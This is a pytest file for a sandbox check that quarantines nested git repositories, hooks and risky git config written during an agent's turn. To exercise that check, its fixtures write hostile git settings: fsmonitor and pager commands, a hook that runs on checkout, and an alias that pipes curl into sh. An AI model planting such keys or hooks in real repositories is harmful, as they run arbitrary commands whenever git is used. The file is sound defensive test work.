"""The git check after a sandboxed turn (seamline.sandbox.git_quarantine), on its own: each
turn is simulated by file operations inside the edit journal's step, as an envelope turn
(`.git` folders left out of the scan) or a tool-sandbox `shell` call (nothing left out)."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import pytest

from seamline.events import Error, FileChange, Raw
from seamline.sandbox import git_quarantine
from seamline.sandbox.git_quarantine import QUARANTINE_MARK, GitRules, GitWatch, QuarantineReport
from seamline.sandbox.journal import EditJournal
from seamline.sandbox.policy import SandboxPolicy
from tests.sandbox.conftest import tree_digest

ENVELOPE = frozenset({".git"})  # what an envelope turn's journal scan leaves out
SHELL: frozenset[str] = frozenset()  # the tool sandbox's shell journals .git too
FSMONITOR = b"[core]\n\trepositoryformatversion = 0\n\tfsmonitor = touch /tmp/PWNED\n"


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    root.mkdir()
    (root / "hello.txt").write_text("hello\n")
    return root


@pytest.fixture
def journal(tmp_path: Path) -> EditJournal:
    return EditJournal(tmp_path / "store.edits.db")


def turn(
    journal: EditJournal,
    ws: Path,
    act: Callable[[], object],
    *,
    rules: GitRules | None = None,
    skip_dirs: frozenset[str] = ENVELOPE,
    call: str = "turn-1",
) -> QuarantineReport:
    """One journaled turn doing ``act``, then the check, as the edit journal (providers.programs.journal) runs them."""
    watch = GitWatch(ws, rules or GitRules(), journaled=True, skip_dirs=skip_dirs)
    with journal.track(
        run_id="run-1",
        workspace=ws,
        tool="t",
        call_id=call,
        on_change=watch.on_change,
        skip_dirs=skip_dirs,
        number_at_end=True,
        before_notes=watch.before_notes,
        after_notes=watch.after_notes,
    ):
        watch.begin()
        act()
    return watch.settle(journal=journal, run_id="run-1", call_id=call)


def make_repository(at: Path, config: bytes = b"[core]\n\tbare = false\n") -> None:
    """What ``git init`` leaves, enough for git to take ``at`` for a repository."""
    (at / "objects").mkdir(parents=True)
    (at / "refs" / "heads").mkdir(parents=True)
    (at / "hooks").mkdir()
    (at / "hooks" / "pre-commit.sample").write_text("#!/bin/sh\n")
    (at / "HEAD").write_text("ref: refs/heads/main\n")
    (at / "config").write_bytes(config)


def moved(report: QuarantineReport) -> dict[str, str]:
    return {i.path: i.moved_to for i in report.items if i.moved_to is not None}


def test_a_nested_repository_is_quarantined_and_revert_removes_the_copy(ws: Path, journal: EditJournal) -> None:
    (ws / "sub").mkdir()
    before = tree_digest(ws)
    report = turn(journal, ws, lambda: make_repository(ws / "sub" / ".git", FSMONITOR))
    assert list(moved(report)) == ["sub/.git"]
    assert moved(report)["sub/.git"].startswith("sub/.git" + QUARANTINE_MARK)
    assert not (ws / "sub" / ".git").exists() and (ws / moved(report)["sub/.git"] / "config").read_bytes() == FSMONITOR
    assert report.journaled
    assert [s.tool for s in journal.steps("run-1")] == ["t", "git_quarantine"]
    journal.revert("run-1")
    assert tree_digest(ws) == before  # no empty .git left, no quarantined copy


def test_a_git_file_is_quarantined_and_a_revert_of_the_quarantine_alone_puts_it_back(
    ws: Path, journal: EditJournal
) -> None:
    (ws / "sub").mkdir()
    pointer = b"gitdir: /somewhere/else/.git/worktrees/sub\n"
    report = turn(journal, ws, lambda: (ws / "sub" / ".git").write_bytes(pointer))
    assert list(moved(report)) == ["sub/.git"]
    assert "a .git file" in report.items[0].reason
    assert (ws / moved(report)["sub/.git"]).read_bytes() == pointer
    journal.revert("run-1", to_step=1)  # keep the turn, undo the quarantine: byte for byte
    assert (ws / "sub" / ".git").read_bytes() == pointer and not (ws / moved(report)["sub/.git"]).exists()


def test_a_dangerous_key_in_a_new_config_file_is_quarantined_whatever_its_name(ws: Path, journal: EditJournal) -> None:
    def act() -> None:
        (ws / "tools").mkdir()
        (ws / "tools" / "shared.gitconfig").write_text('[alias]\n\tst = status\n\tsync = "!curl -s x | sh"\n')
        (ws / "tools" / "team.cfg").write_text('# settings\n[filter "lfs"]\n\tclean = git-lfs clean -- %f\n')
        (ws / "tools" / "benign.gitconfig").write_text("[user]\n\tname = Someone\n[alias]\n\tst = status\n")
        (ws / "notes.md").write_text("# Notes\n\nNever set core.fsmonitor = touch x in a config:\n[core]\n")
        (ws / "tool.py").write_text("import os\n[core] = 1\n")

    report = turn(journal, ws, act)
    assert sorted(moved(report)) == ["tools/shared.gitconfig", "tools/team.cfg"]
    reasons = {i.path: i.reason for i in report.items}
    assert "alias.sync" in reasons["tools/shared.gitconfig"] and "alias.st" not in reasons["tools/shared.gitconfig"]
    assert "filter.lfs.clean" in reasons["tools/team.cfg"]
    assert (ws / "tools" / "benign.gitconfig").is_file() and (ws / "notes.md").is_file()


def test_an_edited_config_of_an_existing_nested_repository_and_a_new_hook_are_quarantined(
    ws: Path, journal: EditJournal
) -> None:
    lib = ws / "vendor" / "lib" / ".git"
    make_repository(lib)
    turn(journal, ws, lambda: None)  # the repository was there before the run's turn below

    def act() -> None:
        with open(lib / "config", "ab") as fh:
            fh.write(b"[core]\n\tpager = sh -c 'touch /tmp/PWNED'\n")
        (lib / "hooks" / "post-checkout").write_text("#!/bin/sh\ntouch /tmp/PWNED\n")

    report = turn(journal, ws, act, call="turn-2")
    assert sorted(moved(report)) == ["vendor/lib/.git/config", "vendor/lib/.git/hooks/post-checkout"]
    assert "core.pager" in {i.path: i.reason for i in report.items}["vendor/lib/.git/config"]
    assert (lib / "hooks" / "pre-commit.sample").is_file() and (lib / "HEAD").is_file()


def test_nested_repositories_allowed_keeps_the_repository_but_not_its_config(ws: Path, journal: EditJournal) -> None:
    report = turn(journal, ws, lambda: make_repository(ws / "sub" / ".git", FSMONITOR), rules=GitRules(True))
    assert list(moved(report)) == ["sub/.git/config"]
    assert (ws / "sub" / ".git" / "HEAD").is_file()
    benign = turn(journal, ws, lambda: make_repository(ws / "other" / ".git"), rules=GitRules(True), call="t2")
    assert not benign and not benign.events(absolute=True)


def test_a_bare_repository_made_by_the_turn_loses_its_head(ws: Path, journal: EditJournal) -> None:
    report = turn(journal, ws, lambda: make_repository(ws / "fixtures" / "remote.git"))
    assert list(moved(report)) == ["fixtures/remote.git/HEAD"]
    assert "bare" in report.items[0].reason
    assert not (ws / "fixtures" / "remote.git" / "HEAD").exists()


def test_the_workspaces_own_new_repository_is_kept_and_its_config_checked(ws: Path, journal: EditJournal) -> None:
    assert not turn(journal, ws, lambda: make_repository(ws / ".git"))
    assert (ws / ".git" / "HEAD").is_file()
    report = turn(journal, ws, lambda: (ws / ".git" / "config").write_bytes(FSMONITOR), call="t2")
    assert list(moved(report)) == [".git/config"]


def test_a_git_file_at_the_top_is_quarantined(ws: Path, journal: EditJournal) -> None:
    report = turn(journal, ws, lambda: (ws / ".git").write_text("gitdir: ../elsewhere\n"))
    assert list(moved(report)) == [".git"]


def test_a_link_planted_at_the_quarantined_name_is_renamed_not_followed(
    ws: Path, journal: EditJournal, tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    make_repository(outside / ".git", FSMONITOR)
    before = tree_digest(outside)
    (ws / "sub").mkdir()
    report = turn(journal, ws, lambda: (ws / "sub" / ".git").symlink_to(outside / ".git"))
    assert list(moved(report)) == ["sub/.git"] and "link" in report.items[0].reason
    assert os.readlink(ws / moved(report)["sub/.git"]) == str(outside / ".git")
    assert tree_digest(outside) == before


def test_a_link_planted_on_the_way_is_refused_and_reported(
    ws: Path, journal: EditJournal, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The program is still running (a server in the envelope) and swaps the folder above
    the new .git for a link between the check and the rename: nothing outside moves."""
    outside = tmp_path / "outside"
    make_repository(outside / "sub" / ".git")
    before = tree_digest(outside)
    found = GitWatch.findings

    def racing(self: GitWatch) -> dict[str, str]:
        result = found(self)
        (ws / "sub").rename(ws / "sub-was")
        (ws / "sub").symlink_to(outside / "sub")
        return result

    monkeypatch.setattr(GitWatch, "findings", racing)
    report = turn(journal, ws, lambda: make_repository(ws / "sub" / ".git"))
    assert [(i.path, i.moved_to) for i in report.items] == [("sub/.git", None)]
    assert "link" in (report.items[0].error or "")
    assert tree_digest(outside) == before
    error = [e for e in report.events(absolute=True) if isinstance(e, Error)]
    assert error and "could not quarantine" in error[0].message


def test_the_shell_path_journals_the_whole_repository_so_a_revert_puts_it_back(ws: Path, journal: EditJournal) -> None:
    before = tree_digest(ws)
    report = turn(journal, ws, lambda: make_repository(ws / "sub" / ".git", FSMONITOR), skip_dirs=SHELL)
    assert list(moved(report)) == ["sub/.git"]
    made = tree_digest(ws)
    journal.revert("run-1", to_step=1)  # undo only the quarantine
    assert (ws / "sub" / ".git" / "config").read_bytes() == FSMONITOR
    assert not (ws / moved(report)["sub/.git"]).exists()
    assert set(tree_digest(ws)) == {p.replace(moved(report)["sub/.git"], "sub/.git") for p in made}
    journal.revert("run-1")
    assert tree_digest(ws) == before


def test_without_a_journal_the_check_walks_for_itself(ws: Path, tmp_path: Path) -> None:
    make_repository(ws / "kept" / ".git")  # there before: left alone
    watch = GitWatch(ws, GitRules(), journaled=False)
    watch.begin()
    make_repository(ws / "a" / "b" / ".git")
    (ws / "extra.gitconfig").write_text("[include]\n\tpath = /elsewhere/config\n")
    report = watch.settle()
    assert sorted(moved(report)) == ["a/b/.git", "extra.gitconfig"] and not report.journaled
    assert (ws / "kept" / ".git" / "HEAD").is_file()


def test_with_a_journal_the_check_reads_no_file_itself(
    ws: Path, journal: EditJournal, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The scan's own reads are enough: nothing is read twice, nothing walked again."""
    for i in range(50):
        (ws / f"f{i}.txt").write_text(f"{i}\n")
    reads: list[str] = []
    real = git_quarantine._read_beneath

    def counted(root: Path, rel: str, limit: int) -> tuple[bytes, int]:
        reads.append(rel)
        return real(root, rel, limit)

    monkeypatch.setattr(git_quarantine, "_read_beneath", counted)
    monkeypatch.setattr(git_quarantine, "walk_tree", None)  # no walk of its own
    report = turn(journal, ws, lambda: [(ws / f"f{i}.txt").write_text("changed\n") for i in range(0, 50, 5)])
    assert not report and reads == []


def test_a_config_too_large_to_read_whole_is_quarantined_unread(
    ws: Path, journal: EditJournal, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("seamline.sandbox.journal.MAX_JOURNALED_BYTES", 1024)  # the scan keeps no bytes over it
    monkeypatch.setattr(git_quarantine, "_HEAD_BYTES", 256)
    monkeypatch.setattr(git_quarantine, "_READ_WHOLE", 4096)
    padded = b"# padding\n" * 200 + b"[core]\n\tfsmonitor = touch /tmp/PWNED\n"  # 2 KiB: read whole
    huge = b"# padding\n" * 600 + b"[core]\n\tfsmonitor = touch /tmp/PWNED\n"  # 6 KiB: too large
    data = os.urandom(8192)

    def act() -> None:
        (ws / "padded").write_bytes(padded)
        (ws / "huge").write_bytes(huge)
        (ws / "data.bin").write_bytes(b"\x00" + data)

    report = turn(journal, ws, act)
    reasons = {i.path: i.reason for i in report.items}
    assert sorted(reasons) == ["huge", "padded"]
    assert "core.fsmonitor" in reasons["padded"] and "not examined" in reasons["huge"]


def test_the_report_is_a_raw_event_file_changes_and_an_error_line(ws: Path, journal: EditJournal) -> None:
    report = turn(journal, ws, lambda: make_repository(ws / "sub" / ".git"))
    events = report.events(absolute=True, call_id="c1")
    raw = [e for e in events if isinstance(e, Raw)]
    assert raw and raw[0].source == "seamline"
    assert raw[0].payload["git_quarantine"][0]["path"] == "sub/.git"
    assert raw[0].payload["workspace"] == str(ws.resolve()) and raw[0].payload["journaled"] is True
    changes = [(e.path, e.kind) for e in events if isinstance(e, FileChange)]
    assert changes == [
        (str(ws.resolve() / "sub" / ".git"), "deleted"),
        (str(ws.resolve() / moved(report)["sub/.git"]), "created"),
    ]
    line = next(e for e in events if isinstance(e, Error))
    assert line.kind == "sandbox" and "nested_repositories = true" in line.message


def test_the_policy_switch(tmp_path: Path) -> None:
    policy = SandboxPolicy.from_mapping({"nested_repositories": True, "git_config_writable": True})
    assert GitRules.from_policy(policy) == GitRules(nested_repositories=True, own_repository_writable=True)
    assert GitRules.from_policy(SandboxPolicy()) == GitRules()
    from seamline.errors import InvalidRequest

    with pytest.raises(InvalidRequest, match="nested_repositories must be true or false"):
        SandboxPolicy.from_mapping({"nested_repositories": "yes"})
